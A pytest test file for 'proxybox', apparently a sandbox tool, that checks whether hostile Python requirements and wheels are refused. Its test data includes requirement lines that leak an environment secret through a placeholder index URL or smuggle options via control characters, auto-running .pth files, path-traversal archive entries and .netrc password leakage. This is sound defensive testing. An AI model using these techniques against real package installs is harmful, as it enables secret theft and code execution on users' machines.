"""Requirements and packages that would run code outside of boxes, or send secrets away, in every way that we know.

They are in an index on this machine. Each would leave a mark: a file outside of any box.
"""

import hashlib
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import attrs
import pytest

import proxybox
from proxybox.controller import find_guest
from proxybox.errors import PackagesError, ProxyboxWarning
from proxybox.packages import cache
from proxybox.packages.requirements import wanted
from tests.packages.wheels import LINK, Index, source_archive, wheel

pytestmark = pytest.mark.filterwarnings("ignore::proxybox.errors.ProxyboxWarning")
SECRET = "s3cret-of-the-caller"


@attrs.frozen
class Place:
    """A test's index, its files, a folder of its own, and the code `hurt`, which leaves a mark in that folder."""

    index: Index
    files: Path
    folder: Path
    hurt: str

    def marks(self) -> list[str]:
        return sorted(os.listdir(self.folder / "marks"))

    def requirements(self, *lines: str) -> Path:
        file = self.folder / "requirements.txt"
        file.write_text("\n".join((f"-i {self.index.url}", *lines)) + "\n", newline="")
        return file

    def script(self, *dependencies: str) -> Path:
        file = self.folder / "script.py"
        file.write_text(f"# /// script\n# dependencies = {[*dependencies]!r}\n# ///\nprint('ran')\n".replace("'", '"'))
        return file

    def refused(self, file: Path) -> str:
        """Checks that the installation is refused, and returns the reason."""
        with pytest.raises(PackagesError) as caught:
            proxybox.run("pass", packages=[file])
        assert list(cache.cached()) == []
        return str(caught.value)


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Place]:
    (tmp_path / "marks").mkdir()
    (tmp_path / "marks").chmod(0o777)
    hurt = f"open({str(tmp_path / 'marks')!r} + '/' + __import__('uuid').uuid4().hex, 'w').close()"
    monkeypatch.setenv("RED_SECRET", SECRET)
    monkeypatch.setenv("HOME", str(tmp_path))
    for name in [name for name in os.environ if name.startswith(("PIP_", "UV_"))]:
        monkeypatch.delenv(name)
    (tmp_path / "files").mkdir()
    with Index(tmp_path / "files") as index:
        monkeypatch.setenv("PIP_INDEX_URL", index.url)
        yield Place(index, tmp_path / "files", tmp_path, hurt)


# --- what requirements say --------------------------------------------------------------------------------------------

BY_LINES = {
    "a path of an address": "evil @ http://HOST/files/evil-1.0.tar.gz?x=.whl",
    "a fragment of an address": "evil @ http://HOST/files/evil-1.0.tar.gz#x.whl",
    "a second option": "--pre -e FOLDER",
    "a second option, glued": "--pre -eFOLDER",
    "an option with a tab": "--pre\t--editable=FOLDER",
    "an option after a form feed": "--pre\x0c-e FOLDER",
    "an option after a carriage return": "--pre\r-e FOLDER",
    "a build that is wanted": "--pre --no-binary :all:",
    "a build behind a value": "--index-url http://HOST/simple/ --no-binary :all:",
    "an arbitrary version": "six===http://HOST/files/evil-1.0.tar.gz",
    "a continued line": "six===\\\nhttp://HOST/files/evil-1.0.tar.gz",
    "a continued option": "--pre \\\n-e FOLDER",
    "a separator of lines": "six\u2028-e FOLDER",
    "a path that looks like a name": "evil-1.0.tar.gz",
    "an option of one requirement": "evil --global-option=build",
    "a folder": "./evil",
    "a marker with a variable": "evil ; os_name == '${RED_SECRET}'",
    "an extra with a variable": "evil[${RED_SECRET}]",
    "a variable in an index": "--extra-index-url http://HOST/${RED_SECRET}/",
    "a variable in an address": "evil @ http://HOST/${RED_SECRET}/evil-1.0-py3-none-any.whl",
    "a variable in a folder": "-f http://HOST/${RED_SECRET}/",
}


@pytest.mark.parametrize("name", BY_LINES)
def test_a_line_that_would_run_something_or_tell_a_secret(place: Place, name: str) -> None:
    source_archive(place.files, "evil", place.hurt)
    project = place.folder / "evil"
    project.mkdir()
    (project / "setup.py").write_text(place.hurt)
    line = BY_LINES[name].replace("HOST", place.index.host).replace("FOLDER", str(project))
    assert ", line " in place.refused(place.requirements(line))
    assert place.marks() == []
    assert place.index.asked == []


BY_SCRIPTS = {
    "a line within": "six===\\nhttp://HOST/files/evil-1.0.tar.gz",
    "an option within": "six===\\n--index-url=http://HOST/${RED_SECRET}/",
    "an arbitrary version": "evil===1.0",
    "an address": "evil @ http://HOST/files/evil-1.0-py3-none-any.whl",
    "an option": "--index-url=http://HOST/${RED_SECRET}/",
    "a carriage return": "six\\r-e .",
    "a NUL": "six\\u0000",
}


@pytest.mark.parametrize("name", BY_SCRIPTS)
def test_a_script_that_would_run_something_or_tell_a_secret(place: Place, name: str) -> None:
    source_archive(place.files, "evil", place.hurt)
    assert "# /// script: " in place.refused(place.script(BY_SCRIPTS[name].replace("HOST", place.index.host)))
    assert place.marks() == []
    assert place.index.asked == []


def test_a_file_of_the_callers_is_not_read_as_requirements(place: Place) -> None:
    """Otherwise its lines would be requested from the index, as names of packages."""
    (place.folder / "project").mkdir()
    for name in (".token", "token.txt", "project/.token"):
        (place.folder / name).write_text(f"{SECRET}\n")
    os.mkfifo(place.folder / "project/pipe.txt")
    os.symlink("../token.txt", place.folder / "project/link.txt")
    file = place.folder / "project/requirements.txt"
    names = (
        "../.token",
        "../token.txt",
        str(place.folder / "token.txt"),
        ".token",
        "link.txt",
        "pipe.txt",
        "/dev/null",
    )
    for name in (*names, "\0.txt"):
        file.write_text(f"-i {place.index.url}\n-r {name}\n")
        assert "requirements.txt, line 2: " in place.refused(file), name
    assert place.index.asked == []
    (place.folder / "project/more").mkdir()
    (place.folder / "project/more/base.txt").write_text("good\n-r ../dev.in\n")
    (place.folder / "project/dev.in").write_text("other\n")
    file.write_text(f"-i {place.index.url}\n-r more/base.txt\n")
    assert [str(each) for each in wanted(str(file), find_guest()).wishes] == ["good", "other"]


@pytest.mark.parametrize("line", ["-f HOME", "-f /", "-f ~", "-i file:///", "--extra-index-url file://HOME/../"])
def test_nothing_may_read_the_home_of_the_caller(place: Place, line: str) -> None:
    line = line.replace("HOME", str(place.folder))
    assert "your home is in this one" in place.refused(place.requirements(line, "good"))


# --- what packages are ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("backend", [False, True], ids=["setup.py", "backend"])
def test_an_archive_of_sources_alone(place: Place, backend: bool) -> None:
    source_archive(place.files, "evil", place.hurt, backend=backend)
    reason = place.refused(place.requirements("evil"))
    assert place.marks() == []
    assert "only wheels are installed" in reason


@pytest.mark.parametrize(
    "address", ["http://HOST/files/evil-1.0.tar.gz", "file://FILES/evil-1.0.tar.gz", "git+file://FILES/evil"]
)
def test_a_wheel_that_needs_an_archive(place: Place, address: str) -> None:
    """pip builds such direct references, whatever --only-binary says."""
    source_archive(place.files, "evil", place.hurt)
    address = address.replace("HOST", place.index.host).replace("FILES", str(place.files))
    wheel(place.files, "good", requires=(f"evil @ {address}",), good="")
    place.refused(place.requirements("good"))
    assert place.marks() == []


def test_a_wheel_that_needs_a_wheel_elsewhere(place: Place) -> None:
    wheel(place.files, "other", other="")
    wheel(
        place.files, "good", requires=(f"other @ http://{place.index.host}/files/other-1.0-py3-none-any.whl",), good=""
    )
    place.refused(place.requirements("good"))


def test_files_that_run_by_themselves(place: Place, guest_kind: str) -> None:
    """A .pth file, and modules with names that tools import. In boxes they may run."""
    modules = dict.fromkeys(("hostile", "sitecustomize", "usercustomize", "compileall", "pip", "uv"), place.hurt)
    files = {
        "hostile.pth": f"import sys; sys.came = True; {place.hurt}\n",
        "hostile-1.0.data/scripts/python": f"#!/bin/sh\n{place.hurt}\n",
        "hostile-1.0.data/headers/evil.h": "",
        "hostile-1.0.data/data/share/text": "kept",
        "hostile-1.0.dist-info/entry_points.txt": "[console_scripts]\npython = hostile:main\n",
        "hostile/__pycache__/x.pypy311.pyc": "x",
    }
    wheel(place.files, "hostile", files=files, **modules)
    result = proxybox.run("import sys; print(sys.came)", packages=[place.requirements("hostile")])
    assert "hostile.pth" in result.stderr  # it failed: the box has no folder for marks
    assert place.marks() == []
    (made,) = cache.cached()
    found = {str(path.relative_to(made.folder)) for path in Path(made.folder).rglob("*") if path.is_file()}
    assert {"hostile.py", "hostile.pth", "share/text"} < found
    assert not [name for name in found if "python" in Path(name).name or name.endswith((".h", "x.pypy311.pyc"))]


CLIMBS = {
    "above": "../mark", "above within": "good/../../mark", "absolute": "/tmp/proxybox-mark", "here": "./mark",
    "nothing between": "good//mark", "a backslash": "..\\mark", "a control character": "mark\n",
    "data of none": "good-1.0.data/mark",
    "above from data": "good-1.0.data/data/../../../mark", "data of no kind": "good-1.0.data/other/mark",
}  # fmt: skip


@pytest.mark.parametrize("name", CLIMBS)
def test_a_file_that_climbs(place: Place, name: str, cache_folder: Path) -> None:
    wheel(place.files, "good", files={CLIMBS[name]: "mark"}, good="")
    assert "good-1.0-py3-none-any.whl: " in place.refused(place.requirements("good"))
    assert not [path for folder in (place.folder, cache_folder) for path in folder.rglob("*mark") if path.is_file()]
    assert not Path("/tmp/proxybox-mark").exists()


def test_a_link_and_a_file_behind_it(place: Place) -> None:
    files = {"out": str(place.folder / "marks"), "out/mark": "mark"}
    wheel(place.files, "good", files=files, modes={"out": LINK}, good="")
    assert "no links" in place.refused(place.requirements("good"))
    assert place.marks() == []


def test_deeper_folders_than_python_recurses(place: Place, cache_folder: Path) -> None:
    """uv unpacks a wheel that has an address, to find its hash: its files must be counted and removed."""
    wheel(place.files, "good", files={"a/" * 1900 + "x": ""}, good="")
    address = f"http://{place.index.host}/files/good-1.0-py3-none-any.whl"
    assert "levels deep" in place.refused(place.requirements(f"good @ {address}"))
    assert os.listdir(cache_folder / "proxybox/packages") == []


def test_names_that_would_act_on_a_terminal(place: Place) -> None:
    wheel(place.files, "good", good="", listed="\x1b]0;title\x07.py,,\n")
    with pytest.warns(ProxyboxWarning) as seen:
        proxybox.run("pass", packages=[place.requirements("good")])
    (text,) = [str(each.message) for each in seen]
    assert text.isprintable()
    assert "title" in text


def test_what_differs_from_its_record_is_told(place: Place) -> None:
    wheel(place.files, "good", good="", unlisted={"other.py": "found = 1"})
    with pytest.warns(ProxyboxWarning, match=r"good-1\.0-py3-none-any\.whl: other\.py: its RECORD has no hash of it"):
        result = proxybox.run("import other; print(other.found)", packages=[place.requirements("good")])
    assert result.stdout == "1\n"


def test_a_file_that_another_package_has(place: Place) -> None:
    wheel(place.files, "first", same="who = 'first'", equal="1")
    wheel(place.files, "second", same="who = 'second'", equal="1")
    with pytest.warns(ProxyboxWarning, match=r"second-1\.0.*: same\.py: another package has another file") as seen:
        result = proxybox.run("import same; print(same.who)", packages=[place.requirements("second", "first")])
    assert result.stdout == "first\n"
    assert "equal.py" not in str([each.message for each in seen])


def test_an_index_that_gives_another_file_than_it_says(place: Place) -> None:
    path = wheel(place.files, "good", good="")
    right = hashlib.sha256(path.read_bytes()).hexdigest()
    assert proxybox.run("import good", packages=[place.requirements(f"good --hash=sha256:{right}")], check=True).ok
    cache.prune()
    reason = place.refused(place.requirements(f"good --hash=sha256:{'0' * 64}"))
    assert "good-1.0-py3-none-any.whl: its hash is another one: sha256:" in reason


def test_a_package_without_a_hash_beside_one_that_has_one(place: Place) -> None:
    path = wheel(place.files, "good", requires=("other",), good="")
    wheel(place.files, "other", other="")
    right = hashlib.sha256(path.read_bytes()).hexdigest()
    assert "other==1.0: has no --hash" in place.refused(place.requirements(f"good --hash=sha256:{right}"))


# --- what lies around -------------------------------------------------------------------------------------------------


def test_no_file_of_the_caller_is_seen(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    """Configuration of pip and uv in the current folder, and a wheel, programs and modules there."""
    wheel(place.files, "good", good="who = 'the index'")
    here = place.folder / "here"
    here.mkdir()
    evil = f"#!{sys.executable}\n{place.hurt}\n"
    for name in ("python", "python3", "pypy", "pypy3", "uv", "git", "sh", "uname"):
        (here / name).write_text(evil)
        (here / name).chmod(0o755)
    wheel(here, "good", good="who = 'the folder'", pip=place.hurt)
    (here / "uv.toml").write_text(f'extra-index-url = ["http://{place.index.host}/{SECRET}/"]\n')
    (here / "pyproject.toml").write_text(f'[tool.uv]\nindex-url = "http://{place.index.host}/{SECRET}/"\n')
    (here / ".env").write_text(f"UV_INDEX_URL=http://{place.index.host}/{SECRET}/\n")
    for name in ("uv", "installer", "packaging", "json", "zipfile", "ssl"):
        (here / f"{name}.py").write_text(place.hurt)
    program = (
        "import proxybox; print(proxybox.run('import good; print(good.who)', packages=['../requirements.txt']).stdout)"
    )
    place.requirements("good")
    done = subprocess.run(
        [sys.executable, "-P", "-c", program], cwd=here, capture_output=True, text=True, check=False, timeout=200,
        env={**os.environ, "PATH": f"{here}:.:{os.environ['PATH']}", "PROXYBOX_GUEST": find_guest().executable},
    )  # fmt: skip
    assert done.stdout == "the index\n\n", done
    assert place.marks() == []
    assert SECRET not in place.index.said()


def test_an_index_that_asks_gets_no_password_of_netrc(place: Place, tmp_path: Path) -> None:
    """uv and pip would send .netrc's password for a host, whoever has named the host."""
    wheel(place.files, "good", good="")
    (tmp_path / ".netrc").write_text(f"machine 127.0.0.1 login me password {SECRET}\n")
    (tmp_path / ".netrc").chmod(0o600)
    with Index(place.files, password=f"me:{SECRET}") as other:
        file = tmp_path / "requirements.txt"
        file.write_text(f"-i http://{other.host}/simple/\ngood\n")
        place.refused(file)
        assert other.asked
        assert SECRET not in other.said()


def test_the_callers_own_index_is_asked_with_its_password(
    place: Place, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Only its own host gets the password, and boxes do not see it."""
    wheel(place.files, "good", good="")
    (tmp_path / "others").mkdir()
    with Index(tmp_path / "others", password=f"me:{SECRET}") as own:
        wheel(own.folder, "own", own="")
        monkeypatch.delenv("PIP_INDEX_URL")
        (tmp_path / ".config/pip").mkdir(parents=True)
        monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
        (tmp_path / ".config/pip/pip.conf").write_text(f"[global]\nextra-index-url = {own.url}\n")
        file = place.requirements("good", "own")
        code = "import own, good; print([open('/packages/' + n).read() for n in ('proxybox.json',)])"
        seen = proxybox.run(code, packages=[file], check=True).stdout
        assert [path for path, headers in own.asked if "Authorization" in headers]
    assert SECRET not in seen + place.index.said()
    (made,) = cache.cached()
    assert made.packages == ("good==1.0", "own==1.0")


# --- what takes long --------------------------------------------------------------------------------------------------

LONG = {
    "spaces before a comment": "six" + " " * 40_000 + "x#",
    "spaces before a hash": "six --hash=sha256:00" + " " * 40_000 + "x",
    "comments": "x" + "#" * 40_000,
    "hashes": "six " + "--hash=sha256:00 " * 20_000,
    "continued lines": "\\\n" * 200_000 + "six six",
    "parentheses": "six ; " + "(" * 40_000,
    "versions": "six " + ">=1," * 40_000 + "x",
    "extras": "six[" + "a," * 40_000 + "]x",
    "options": "--pre" + " " * 40_000 + "x",
    "a deep marker": "six ; " + "(" * 900 + "os_name == 'x'" + ")" * 900,
    "many indexes": "\n".join(f"--extra-index-url http://localhost/{n}/" for n in range(20_000)),
    "many folders": "\n".join(f"-f {n}" for n in range(100_000)),
    "many requirements": "\n".join(f"p{n}" for n in range(100_000)),
}


@pytest.mark.parametrize("name", LONG)
@pytest.mark.timeout(20)
def test_long_lines_are_read_in_no_time(place: Place, name: str) -> None:
    """Quadratic time would be 10 seconds to minutes."""
    assert place.refused(place.requirements(LONG[name]))


@pytest.mark.parametrize(
    "toml", ["x = " + "[" * 5000, "x = " + "{a=" * 5000, "a." * 8000 + "a = 1", "a = '" + "x" * 10**6]
)
@pytest.mark.timeout(20)
def test_toml_that_is_too_deep_or_too_long(place: Place, toml: str) -> None:
    file = place.folder / "script.py"
    file.write_text(f"# /// script\n# dependencies = []\n# {toml}\n# ///\n")
    assert f"{file}: # /// script: " in place.refused(file)


def test_files_that_name_each_other_many_times(place: Place) -> None:
    for name in ("requirements.txt", "a.txt", "b.txt"):
        (place.folder / name).write_text("-r a.txt\n-r b.txt\n" * 50)
    assert "files that name each other" in place.refused(place.folder / "requirements.txt")
